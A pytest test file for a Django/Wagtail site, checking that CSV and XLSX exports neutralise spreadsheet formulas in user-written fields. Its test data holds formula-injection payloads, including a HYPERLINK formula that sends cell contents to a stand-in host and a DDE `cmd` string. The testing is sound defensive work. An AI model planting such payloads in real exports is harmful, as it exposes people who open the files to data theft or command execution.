"""No spreadsheet that the site gives away holds a formula, whoever wrote the words in it."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Page, Workflow

from home.exports import Column, csv_response, neutralised

from .factories import make_agency, make_recommendation, make_review
from .registers import address

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Open")'


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0d1+1",
        "-",
        "--5",
        "+44 20 7946 0000",
    ],
)
def test_what_might_be_a_formula_gets_an_apostrophe(text):
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Child A", "-5", "+5", "-1,234.50", "-12%", "5-6", "a=b", "'=1", "2024-05-01"])
def test_what_cannot_be_one_stays_as_it_is(text):
    assert neutralised(text) == text


@given(st.text(max_size=30))
def test_no_text_begins_as_a_formula_does_but_numbers(text):
    safe = neutralised(text)
    assert safe.lstrip()[:1] not in {"=", "@", "\uff1d", "\uff20"}
    if safe.lstrip()[:1] in {"+", "-"}:
        float(safe.replace(",", "").replace(".", "").rstrip("%"))
    assert neutralised(safe) == safe


def cells_of(response):
    text = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    return [cell for row in rows[1:] for cell in row]


def test_data_of_lists_has_numbers_as_numbers_and_no_formulas():
    columns = [Column("it", "what it is", lambda entry: entry)]
    response = csv_response(columns, [FORMULA, -5, -0.5, None, ["=1", "b"], "-5"], "it.csv")
    assert cells_of(response) == [f"'{FORMULA}", "-5", "-0.5", "", "'=1; b", "-5"]


@pytest.fixture
def formulas(db, django_user_model):
    """Formulas wherever editors and readers can write what is exported."""
    user = django_user_model.objects.create_superuser(FORMULA, "=1@example.org", "x", first_name="=1", last_name="+2")
    page = make_review(FORMULA, slug="formula", lead_reviewer=FORMULA)
    make_recommendation(page, text=FORMULA, agencies=[make_agency(FORMULA)])
    page.save_revision(user=user, log_action=True).publish(user=user)
    Workflow.objects.filter(active=True).first().start(page, user)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=user, locked_at=timezone.now(), owner=user)
    Redirect.objects.create(old_path="/old", redirect_link=FORMULA)
    Query.get(FORMULA).add_hit()
    return page


REPORTS = [
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:page_types_usage",
    "wagtailredirects:index",
    "wagtailsearchpromotions:search_terms",
]


@pytest.mark.django_db
@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("name", REPORTS)
def test_no_report_of_the_admin_holds_a_formula(admin_client, name):
    response = admin_client.get(reverse(name), {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    cells = cells_of(response)
    assert [cell for cell in cells if neutralised(cell) != cell] == []
    if name != "wagtailadmin_reports:page_types_usage":
        assert any(cell.startswith("'=") for cell in cells), "a formula was to be exported"


@pytest.mark.django_db
@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("name", REPORTS)
def test_in_the_other_kind_of_spreadsheet_formulas_are_text(admin_client, name):
    response = admin_client.get(reverse(name), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [cell.value for row in sheet for cell in row if cell.data_type == "f"] == []


@pytest.mark.django_db
@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("path", ["/reviews/data.csv", "/recommendations/data.csv"])
def test_no_data_of_a_list_holds_a_formula(client, path):
    cells = cells_of(client.get(path))
    assert any(cell.startswith("'=") for cell in cells)
    assert [cell for cell in cells if neutralised(cell) != cell] == []


@pytest.mark.django_db
@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("register", ["reviews", "recommendations", "agencies"])
def test_no_register_exports_a_formula(admin_client, register):
    cells = cells_of(admin_client.get(address(register), {"export": "csv"}))
    assert any(cell.startswith("'=") for cell in cells)
    assert [cell for cell in cells if neutralised(cell) != cell] == []
